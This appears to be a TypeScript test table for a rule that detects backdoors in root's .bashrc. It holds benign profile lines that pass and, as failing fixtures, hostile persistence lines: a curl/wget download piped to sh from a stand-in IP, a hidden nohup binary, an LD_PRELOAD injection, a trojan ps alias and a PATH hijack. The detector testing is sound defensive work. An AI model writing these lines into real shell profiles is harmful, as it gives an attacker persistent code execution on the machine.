import { startupWith } from '../testing/persistence';
import { ruleTable } from '../testing/table';
import { shellProfileBackdoor } from './shell-profile-backdoor';

const profile = (...lines: string[]) => ({
  facts: { startupFiles: [startupWith({ path: '/root/.bashrc', kind: 'profile', user: 'root' }, ...lines)] },
});
const found = (line: string, says: string) => ({
  ...profile(line),
  finds: [{ subject: '/root/.bashrc', severity: 'high' as const, says }],
});

ruleTable(shellProfileBackdoor, {
  passes: {
    'nothing notable': profile(),
    'a version manager': profile('[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"', '. "$HOME/.cargo/env"'),
    'colours for ls': profile("alias ls='ls --color=auto'"),
    'what Debian writes': profile('if [ -f ~/.bashrc ]; then', '  . ~/.bashrc', '. "$HOME/.bash_aliases"'),
    'helpers of its own': profile('[ -f ~/.fzf.bash ] && source ~/.fzf.bash'),
    'own programs': profile('export PATH="$HOME/.local/bin:$PATH"'),
  },
  fails: {
    'a download': found(
      '(curl -s http://198.51.100.23/a || wget -qO- http://198.51.100.23/a) | sh',
      'at every sign-in',
    ),
    'a hidden program of the home': found('nohup ~/.x/kd &', '~/.x/kd'),
    'a library': found('export LD_PRELOAD=/usr/lib/libx.so', 'forces a library'),
    'ps is another ps': found("alias ps='/usr/lib/.p/ps'", ''),
    'an odd directory first': found('export PATH=/bin/.local/bin:$PATH', 'into PATH'),
  },
  unknowns: { 'over the Docker API alone': { facts: {}, because: 'startup files' } },
});
